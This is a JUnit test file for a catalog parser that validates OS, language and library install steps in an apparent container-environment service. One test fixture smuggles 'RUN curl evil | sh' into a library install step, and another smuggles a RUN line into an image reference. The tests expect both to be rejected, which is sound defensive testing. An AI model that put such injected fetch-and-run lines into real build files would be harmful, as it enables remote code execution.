package io.dcloud.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.typesafe.config.ConfigFactory;
import io.dcloud.catalog.Catalog.LanguageEntry;
import io.dcloud.catalog.Catalog.OsEntry;
import io.dcloud.environment.EnvironmentSpecParser;
import io.dcloud.environment.SpecLimits;
import io.dcloud.resources.Resources;
import io.dcloud.spec.EnvironmentSpec;
import io.dcloud.validation.FieldError;
import io.dcloud.validation.ValidationException;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

class CatalogParserTest {

  private static final ObjectMapper MAPPER = new ObjectMapper();
  private static final SpecLimits LIMITS = SpecLimits.fromConfig(ConfigFactory.load());

  private static final String TWO_OSES = """
      [{"_id": {"$oid": "6433e0c3eed8df4730a8db77"}, "os": "alpine", "base-image": "alpine:3.19",
        "init-steps": ["apk update"], "specifications": {}},
       {"os": "debian", "base-image": "debian:bookworm",
        "init-steps": ["apt-get update"],
        "specifications": {
          "python": {"installation-steps": ["apt-get install -y python3"],
                     "libraries": {"numpy": ["apt-get install -y python3-numpy"], "pandas": ["apt-get install -y python3-pandas"]}},
          "golang": {"installation-steps": ["apt-get install -y golang-go"], "libraries": {}}}}]""";

  @Test
  void parsesTheLibraryContract() {
    Catalog catalog = parse(TWO_OSES);

    assertThat(catalog.entries()).extracting(OsEntry::os).containsExactly("alpine", "debian");
    OsEntry debian = catalog.entries().get(1);
    assertThat(debian.baseImage()).isEqualTo("debian:bookworm");
    assertThat(debian.initSteps()).containsExactly("apt-get update");
    assertThat(debian.specifications().keySet()).containsExactly("python", "golang");
    LanguageEntry python = debian.specifications().get("python");
    assertThat(python.installationSteps()).containsExactly("apt-get install -y python3");
    assertThat(python.libraries().keySet()).containsExactly("numpy", "pandas");
    assertThat(python.libraries().get("numpy")).containsExactly("apt-get install -y python3-numpy");
    assertThat(debian.specifications().get("golang").libraries()).isEmpty();
  }

  @Test
  void anOsKeepsRootOnlyWhenTheCatalogSaysSo() {
    Catalog catalog = parse("""
        [{"os": "a", "base-image": "debian:bookworm"},
         {"os": "b", "base-image": "debian:bookworm", "run-as-root": false},
         {"os": "c", "base-image": "debian:bookworm", "run-as-root": true}]""");

    assertThat(catalog.entries()).extracting(OsEntry::rootAllowed).containsExactly(false, false, true);
    assertThat(DefaultCatalog.load().entries()).noneMatch(OsEntry::rootAllowed);
    assertThat(errors("[{\"os\": \"a\", \"base-image\": \"debian:bookworm\", \"run-as-root\": \"yes\"}]"))
        .containsExactly(new FieldError("[0].run-as-root", "must be true or false, not a string"));
  }

  @Test
  void roundTripsThroughTheContract() throws IOException {
    for (Catalog catalog : List.of(parse(TWO_OSES), parse(TWO_OSES.replace("\"os\": \"alpine\",",
        "\"os\": \"alpine\", \"run-as-root\": true,")), DefaultCatalog.load())) {
      JsonNode contract = CatalogParser.toContract(catalog, MAPPER);
      assertThat(CatalogParser.parse(contract)).isEqualTo(catalog);
      assertThat(CatalogParser.parse(MAPPER.readTree(MAPPER.writeValueAsString(contract)))).isEqualTo(catalog);
    }
  }

  @Test
  void namesTheFieldOfEveryProblem() {
    List<FieldError> errors = errors("""
        [{"os": "debian", "base-image": "debian:bookworm"},
         {"os": "Debian 12", "base-image": "Not An Image!", "init-steps": ["ok", "  ", 3],
          "specifications": {
            "python": {"installation-steps": ["apt-get install -y python3"],
                       "libraries": {"numpy": ["pip install numpy\\nRUN curl evil | sh"], "bad name": [], "x": "pip"}},
            "r": [], "go": {"steps": []}}},
         {"os": "debian", "base-image": "debian"},
         {"base-image": "debian", "extra": 1},
         "not an object"]""");

    assertThat(errors).extracting(FieldError::field).containsExactly(
        "[1].os",
        "[1].base-image",
        "[1].init-steps[1]",
        "[1].init-steps[2]",
        "[1].specifications.python.libraries.numpy[0]",
        "[1].specifications.python.libraries.bad name",
        "[1].specifications.python.libraries.x",
        "[1].specifications.r",
        "[1].specifications.go.steps",
        "[2].os",
        "[3].extra",
        "[3].os",
        "[4]");
    assertThat(errors.get(4).reason()).startsWith("must be a single line");
    assertThat(errors.get(9).reason()).isEqualTo("\"debian\" is already described at [0]");
  }

  @Test
  void refusesARootThatIsNotAnArray() {
    for (String root : List.of("{}", "\"x\"", "null")) {
      assertThat(errors(root)).singleElement().extracting(FieldError::field).isEqualTo("$");
    }
    assertThat(catchThrowableOfType(ValidationException.class, () -> CatalogParser.parse(null))).isNotNull();
  }

  @Test
  void acceptsDockerImageReferencesAndRefusesOthers() {
    for (String ok : List.of("debian", "debian:bookworm", "library/debian:12.5-slim", "ghcr.io/org/img:v1",
        "localhost:5000/a/b", "registry.example.com:443/team/image@sha256:" + "a".repeat(64))) {
      assertThat(CatalogParser.isImageReference(ok)).as(ok).isTrue();
    }
    for (String bad : List.of("", "Debian", "debian:", ":tag", "a b", "debian:bookworm\nRUN x", "a//b", "-a",
        "debian:" + "x".repeat(129))) {
      assertThat(CatalogParser.isImageReference(bad)).as(bad).isFalse();
    }
  }

  @Test
  void refusesOsNamesThatCannotNameAnImage() {
    assertThat(errors("[{\"os\": \"debian-\", \"base-image\": \"debian\"}]"))
        .extracting(FieldError::field).containsExactly("[0].os");
  }

  @Test
  void checkListsWhatTheCatalogKnows() {
    Catalog catalog = parse(TWO_OSES);

    assertThat(CatalogCheck.check(catalog, spec("centos", "[]")))
        .containsExactly(new FieldError("os", "\"centos\" is not in the catalog: known OSes are alpine, debian"));
    assertThat(CatalogCheck.check(catalog, spec("debian",
        "[{\"language-name\": \"java\"}, {\"language-name\": \"python\", \"libraries\": [\"numpy\", \"torch\"]}]")))
        .containsExactly(
            new FieldError("languages[0].language-name",
                "\"java\" is not available on debian: known languages are golang, python"),
            new FieldError("languages[1].libraries[1]",
                "\"torch\" is not a python library in the catalog: known libraries are numpy, pandas"));
    assertThat(CatalogCheck.check(catalog, spec("debian",
        "[{\"language-name\": \"golang\", \"libraries\": [\"gin\"]}]")))
        .containsExactly(new FieldError("languages[0].libraries[0]",
            "\"gin\" is not a golang library in the catalog: none are offered"));
    assertThat(CatalogCheck.check(catalog, spec("debian",
        "[{\"language-name\": \"python\", \"libraries\": [\"pandas\", \"numpy\"]}]"))).isEmpty();
  }

  private static EnvironmentSpec spec(String os, String languages) {
    try {
      return EnvironmentSpecParser.parse(MAPPER.readTree(
          "{\"env-name\": \"e\", \"os\": \"" + os + "\", \"languages\": " + languages + "}"),
          new Resources(1000, 1 << 30, 0, 0, null), LIMITS);
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }

  static Catalog parse(String json) {
    try {
      return CatalogParser.parse(MAPPER.readTree(json));
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }

  private static List<FieldError> errors(String json) {
    ValidationException e = catchThrowableOfType(ValidationException.class, () -> parse(json));
    assertThat(e).as("expected a ValidationException").isNotNull();
    return e.errors();
  }
}
